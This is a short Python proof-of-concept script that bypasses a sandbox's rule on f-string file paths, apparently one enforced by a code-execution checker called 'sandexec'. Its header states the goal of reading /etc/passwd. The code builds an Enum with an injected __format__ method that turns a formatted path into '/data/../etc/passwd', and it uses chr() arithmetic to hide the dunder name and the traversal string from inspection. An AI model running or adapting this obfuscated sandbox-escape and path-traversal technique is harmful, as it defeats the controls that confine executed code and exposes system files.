# source: f-string path rule "format an integer, f\"/data/day{i:03d}.csv\"" vs. Python format protocol (format(x, spec) calls type(x).__format__); enum functional API stores dunder names as class attributes
# family: path hole filled by an object whose __format__ returns "../..." (Enum member with injected __format__), reached through a function parameter
# goal: read /etc/passwd via /data/../etc/passwd (needs /data to exist, as in sandexec; proof run with --tmpfs /data)
import pandas as pd
import enum
FMT = chr(95) * 2 + "format" + chr(95) * 2
T = chr(46) * 2 + chr(47) + "etc" + chr(47) + "passwd"
E = enum.Enum("E", [(FMT, lambda self, spec: self.value), ("a", T)])


def r(i):
    print(pd.read_csv(f"/data/{i:03d}", sep=":", header=None))


r(E.a)
